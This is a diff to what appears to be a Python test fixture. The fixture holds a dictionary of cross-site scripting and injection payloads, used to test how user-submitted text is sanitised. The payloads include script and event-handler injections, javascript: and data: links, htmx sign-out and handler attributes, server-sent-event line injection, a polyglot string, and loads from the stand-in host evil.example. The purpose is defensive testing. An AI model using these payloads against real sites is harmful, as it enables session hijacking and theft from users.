@@ -13,8 +13,8 @@ RUN = "document.title='owned';window.owned=1"
 OWN: dict[str, str] = {
     "script": f"</p><script>{RUN}</script><script src=//evil.example/a.js></script>",
     "image": f'"><img src=x onerror="{RUN}"><img src=//evil.example/pixel.gif>',
-    "svg": f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s><a xlink:href=javascript:{RUN}>x",
-    "template": f"<template><img src=x onerror={RUN}></template><noscript><img src=x onerror={RUN}></noscript>",
+    "svg": f"<svg onload={RUN}><animate onbegin={RUN} dur=1s><a xlink:href=javascript:{RUN}>x",
+    "template": f"<template><img src=x onerror={RUN}></template><noscript><p onclick={RUN}></noscript>",
     "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe><iframe src=//evil.example></iframe>',
     "object": "<object data=//evil.example></object><embed src=//evil.example><portal src=//evil.example>",
     "get": '<div hx-get="/sign-out/" hx-trigger="load" hx-swap="outerHTML" hx-target="body">wait</div>',
@@ -22,7 +22,7 @@ OWN: dict[str, str] = {
     "on": f'<i hx-on:htmx:load="{RUN}" hx-on::load="{RUN}" data-hx-on-load="{RUN}">sigh</i>',
     "stream": '<div hx-ext="sse" sse-connect="//evil.example/s" sse-swap="mention">wait</div>',
     "oob": '<div id="lanes" hx-swap-oob="true">gone</div><div id="band" hx-swap-oob="innerHTML">gone</div>',
-    "link": f"[here](javascript:{RUN}) <a href=' javascript:{RUN}'>here</a> <a href=data:text/html,x>here</a>",
+    "link": f"[here](javascript:{RUN}) <a href=' javascript:{RUN}'>here</a> <a href=data:text/html,x>x</a>",
     "lines": "x\n\ndata: <b>owned</b>\nid: 99999999\nevent: mention\n\nevent: reset\ndata: x\n\n",
     "returns": "x\r\revent: ended\rdata: x\r\r\u2028event: ended\u2029data: x\u0085event: close\n\n",
     "style": "<style>*{display:none!important}</style><link rel=stylesheet href=//evil.example/x.css>",
@@ -40,7 +40,7 @@ OWN: dict[str, str] = {
     "spaces": "wait" + "\u00a0\u2003\u3000" * 3_000 + "wait",
     "ligature": "﷽" * 3_000,
     "half": "half a letter \ud83d and \udc00, a hole \x00 and bells \x07\x08\x1b[31m \ufffe\uffff",
-    "polyglot": f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={RUN} )//%0D%0A//</stYle/</titLe/--!><sVg/oNloAd=x>",
+    "polyglot": f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={RUN} )//%0D%0A//</titLe/--!><sVg/oNloAd=x>",
     "long": "a nurse was rude and the wait was awful. " * 125_000,  # 5 MB
 }
 WITHOUT_XML = ("half", "returns")
